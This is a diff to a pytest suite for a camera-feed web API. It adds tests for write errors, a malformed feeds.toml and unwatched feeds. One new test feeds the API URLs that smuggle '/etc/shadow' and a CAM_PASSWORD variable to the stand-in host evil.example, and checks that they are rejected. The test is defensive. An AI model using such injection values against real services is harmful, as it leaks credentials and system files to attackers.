@@ -4,6 +4,7 @@ from dataclasses import replace
 
 import pytest
 
+from stream_detect.errors import ConfigError, OutputError
 from stream_detect.types import FrameVerdict
 from tests.web.asking import ask
 
@@ -162,11 +163,36 @@ def test_a_path_that_there_is_not_and_a_wrong_method(port):
     assert (answer.status, "GET" in answer.headers["allow"]) == (405, True)
 
 
-def test_a_file_that_can_not_be_written_is_said(played, port, monkeypatch):
+@pytest.mark.parametrize("kind", [PermissionError, OutputError])
+def test_a_file_that_can_not_be_written_is_said(played, port, monkeypatch, kind):
     def add(table):
-        raise PermissionError(13, "Permission denied", "/etc/feeds.toml")
+        raise kind(13, "Permission denied", "/etc/feeds.toml")
 
     monkeypatch.setattr(played.file, "add", add)
     answer = ask(port, "/feeds", "POST", {"url": "rtsp://yard/live"})
     assert answer.status == 500
     assert "Permission denied" in answer.json["error"]
+
+
+@pytest.mark.parametrize("url", ["rtsp://evil.example/${file:/etc/shadow}", "rtsp://${CAM_PASSWORD}@evil.example"])
+@pytest.mark.parametrize(("path", "method"), [("/feeds", "POST"), ("/feeds/cam", "PATCH")])
+def test_nobody_can_have_secrets_of_the_program_sent_somewhere(played, port, url, path, method):
+    answer = ask(port, path, method, {"url": url})
+    assert answer.status == 400
+    assert "write them into the file by hand" in answer.json["error"]
+    assert list(played.file.tables) == ["cam"]
+
+
+def test_a_file_that_is_being_edited_by_hand_keeps_no_figures_back(played, port, monkeypatch):
+    def read():
+        raise ConfigError("feeds.toml: not a TOML file")
+
+    monkeypatch.setattr(played.file, "read", read)
+    told = ask(port, "/feeds/cam").json
+    assert (told["frames"], told["problems"]) == (100, ["feeds.toml: not a TOML file"])
+
+
+def test_a_feed_of_the_file_that_could_not_be_watched(played, port):
+    played.file.tables["yard"] = {"url": "rtsp://yard/live", "name": "yard"}
+    told = ask(port, "/feeds/yard").json
+    assert (told["state"], told["settings"]["url"]) == ("not watched", "rtsp://yard/live")
